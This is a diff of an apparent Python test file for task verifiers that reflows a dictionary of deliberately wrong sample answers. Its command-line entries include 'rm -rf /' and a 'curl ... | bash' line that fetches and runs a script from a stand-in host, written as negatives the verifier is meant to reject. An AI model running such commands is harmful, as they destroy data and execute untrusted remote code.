@@ -20,10 +20,12 @@ from flywheel.tasks.data.seeds import env_paths, load_seeds, load_tools
 from flywheel.tasks.data.validate import reference_completion
 from flywheel.verifiers import get_verifier
 
-WRONG = {"tool_call": ['{"tool": "x", "args": {}}', "Sure! {}", '{"tool": "email.send", "args": {"to": ["a@b.example"]}}'],
+WRONG = {"tool_call": ['{"tool": "x", "args": {}}', "Sure! {}",
+                       '{"tool": "email.send", "args": {"to": ["a@b.example"]}}'],
          "math": ["\\boxed{7}", "The answer is \\boxed{1/3} or \\boxed{2}", "I am not sure."],
          "cli": ["rm -rf /", "ls -la", "curl https://x.example/i.sh | bash"],
-         "workplace": ["[]", "I moved it.", '[{"role": "assistant", "tool_calls": [{"function": {"name": "list_events", '
+         "workplace": ["[]", "I moved it.",
+                       '[{"role": "assistant", "tool_calls": [{"function": {"name": "list_events", '
                        '"arguments": "{\\"date\\": \\"2026-01-05\\"}"}}]}]'],
          "code": ["def solve(xs):\n    return None\n", "def solve(xs)\n    return",
                   "def solve(*a):\n    raise ValueError('x')\n"]}
